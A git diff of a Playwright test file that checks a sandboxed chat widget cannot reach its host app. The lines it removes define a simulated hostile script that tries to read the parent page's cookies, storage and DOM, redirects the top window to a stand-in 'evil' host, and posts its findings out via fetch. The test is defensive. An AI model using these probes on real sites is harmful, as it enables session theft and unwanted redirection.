@@ -3,6 +3,7 @@ import type { Page } from 'playwright/test';
 import { allowEverything } from './allow-everything.ts';
 import { actDeployed } from './deployed.ts';
 import { expect, test } from './fixtures.ts';
+import { HOSTILE_SCRIPT, whatItReached } from './hostile-chat.ts';
 import { recordIntercom } from './recorded-intercom.ts';
 
 // The policy of the preview allows no service at all; here the adapter of the real messenger runs.
@@ -145,42 +146,6 @@ test('a messenger that is blocked says so, leaves no frame behind, and comes wit
   await expect(chat(page).getByRole('button', { name: 'Close' })).toBeVisible();
 });
 
-/** What a script in the page of the chat can reach. */
-function hostile(): void {
-  const attempts: Record<string, () => unknown> = {
-    "the app's address": () => window.parent.location.href,
-    "the app's storage": () => window.parent.localStorage.getItem('currentStay'),
-    "the app's cookies": () => window.parent.document.cookie,
-    "the app's page": () => window.parent.document.body.innerHTML,
-    'its own storage': () => window.localStorage.length,
-    'its own cookies': () => document.cookie,
-    'a database': () => indexedDB.open('any'),
-    'the caches': () => caches,
-    'the worker': () => navigator.serviceWorker.controller,
-    'another page of the app': () => {
-      const frame = document.createElement('iframe');
-      document.body.append(frame);
-      return frame.contentDocument?.body.innerHTML ?? frame.contentWindow?.document;
-    },
-    'the window of the app': () => {
-      if (window.top) window.top.location.href = 'https://evil.example.test/';
-    },
-  };
-  const reached = Object.entries(attempts).flatMap(([name, attempt]) => {
-    try {
-      attempt();
-      return [name];
-    } catch {
-      return [];
-    }
-  });
-  const seen = { reached, origin: window.origin, referrer: document.referrer };
-  void fetch('https://api-iam.eu.intercom.io/seen', { method: 'POST', body: JSON.stringify(seen) });
-  // Anything but the line is nothing to the app.
-  for (const message of ['line', 'here', { type: 'shown' }, { type: 'unread', count: 99 }])
-    window.parent.postMessage(message, '*');
-}
-
 // Proves S9, S20.
 test('a hostile script in the page of the chat reads nothing of the app, and leads it nowhere', async ({
   page,
@@ -189,7 +154,7 @@ test('a hostile script in the page of the chat reads nothing of the app, and lea
 }) => {
   const { sent } = await recordIntercom(context);
   await context.route('https://widget.intercom.io/**', (route) =>
-    route.fulfill({ contentType: 'text/javascript', body: `(${hostile.toString()})()` }),
+    route.fulfill({ contentType: 'text/javascript', body: HOSTILE_SCRIPT }),
   );
   await visit(`/stay?slug=${SLUG}`);
   await page.evaluate(() => localStorage.setItem('accessToken', 'canary-token'));
@@ -197,9 +162,7 @@ test('a hostile script in the page of the chat reads nothing of the app, and lea
   await visit(`/stay/access?slug=${SLUG}`);
   await askLink(page).click();
   await chatButton(page).click();
-  await expect.poll(() => sent.find((each) => each.includes('/seen'))).toBeDefined();
-  const seen = sent.find((each) => each.includes('/seen')) ?? '';
-  expect(JSON.parse(seen.slice(seen.indexOf('{"reached"')))).toEqual({ reached: [], origin: 'null', referrer: '' });
+  await expect.poll(() => whatItReached(sent)).toEqual({ reached: [], origin: 'null', referrer: '' });
   expect(sent.join('\n')).not.toMatch(/canary-token|canary-stay/);
   await expect(page).toHaveURL(/localhost.*\/stay\/ask/);
   await expect(askLink(page)).toHaveAccessibleName('Ask Bob');
